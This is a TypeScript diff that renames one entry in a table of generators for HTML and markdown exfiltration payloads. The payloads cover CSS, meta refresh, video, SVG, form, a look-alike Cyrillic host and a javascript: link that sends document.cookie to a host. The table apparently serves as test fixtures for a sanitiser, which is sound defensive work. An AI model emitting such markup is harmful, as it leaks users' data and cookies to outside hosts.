@@ -58,7 +58,7 @@ const makers: Readonly<Record<string, (host: string) => string>> = {
   'style sheet': (host) => `<style>body{background:url('https://${host}/?${data()}')}</style>`,
   'page that goes elsewhere': (host) => `<meta http-equiv="refresh" content="0;url=https://${host}/?${data()}">`,
   'element video': (host) => `<video autoplay src="https://${host}/v.mp4?${data()}"></video>`,
-  'picture in SVG': (host) => `<svg><image href="https://${host}/?${data()}" /></svg>`,
+  'image in SVG': (host) => `<svg><image href="https://${host}/?${data()}" /></svg>`,
   'look-alike of a host': (host) => `![a](https://${host.replace('e', 'е')}/?q=${data()})`,
   form: (host) => `<form action="https://${host}/?q=${data()}"><button>OK</button></form>`,
   script: () => `[Show more](javascript:fetch('//x/'+document.cookie))`,
